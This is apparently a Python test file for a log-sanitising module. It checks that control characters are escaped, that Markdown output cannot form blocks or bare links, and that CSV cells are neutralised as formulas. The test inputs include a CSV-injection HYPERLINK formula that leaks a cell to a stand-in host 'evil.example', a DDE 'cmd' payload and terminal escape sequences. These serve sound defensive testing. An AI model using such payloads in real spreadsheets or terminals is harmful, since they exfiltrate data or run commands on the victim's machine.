"""What a log holds is shown as text: escapes for control codes, no Markdown of its own."""

from __future__ import annotations

import json

from inspect_gaia._cli._sanitise import (
    csv_cell,
    json_text,
    markdown_cell,
    markdown_text,
    printable,
)


def test_control_characters_are_written_as_escapes() -> None:
    assert printable("a\x1b[2Jb\x07c\x9bd\u202ee") == "a\\x1b[2Jb\\x07c\\x9bd\\u202ee"
    assert printable("two\nlines\tand a tab") == "two\nlines\tand a tab"
    assert printable("two\nlines\r", one_line=True) == "two\\x0alines\\x0d"
    assert printable("plain, — ünïcode ✓") == "plain, — ünïcode ✓"


def test_a_markdown_cell_keeps_to_its_row() -> None:
    cell = markdown_cell("41\n# h\n![i](https://t.example/p.png) <b>&amp;</b> a|b \\ [x]")
    assert cell == (
        "41<br># h<br>!\\[i\\](https:\u200b//t.example/p.png) &lt;b&gt;&amp;amp;&lt;/b&gt; a\\|b \\\\ [x]"
    )
    assert "\n" not in cell


def test_markdown_prose_starts_no_block() -> None:
    text = markdown_text("ok\n# heading\n---\n> quote\n```\n* item")
    assert text.splitlines() == ["ok", "\\# heading", "\\---", "&gt; quote", "\\```", "\\* item"]
    assert markdown_text("a\nb", one_line=True) == "a b"


def test_json_keeps_the_value_and_escapes_what_a_terminal_obeys() -> None:
    document = json.dumps({"model": "m\x1b]0;t\x07\x9b\u202e"}, ensure_ascii=False)
    safe = json_text(document)
    assert "\x9b" not in safe and "\u202e" not in safe and "\x1b" not in safe
    assert json.loads(safe) == json.loads(document)


def test_a_csv_cell_is_never_a_formula_and_a_markdown_cell_never_a_bare_link() -> None:
    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)"]
    assert [csv_cell(f) for f in formulas] == ["'" + f for f in formulas]
    assert csv_cell("-2+3") == "'-2+3" and csv_cell("\tx") == "'\tx"
    # numbers, signed or not, stay numbers
    assert [csv_cell(n) for n in ("-0.5", "+1", "-12%", "1,234", "-3e5", "-", "41")] == [
        "-0.5", "+1", "-12%", "1,234", "-3e5", "-", "41"
    ]  # fmt: skip
    cell = markdown_cell("see https://evil.example/x or www.evil.example")
    assert "://" not in cell and "www." not in cell
    assert cell.replace("\u200b", "") == "see https://evil.example/x or www.evil.example"
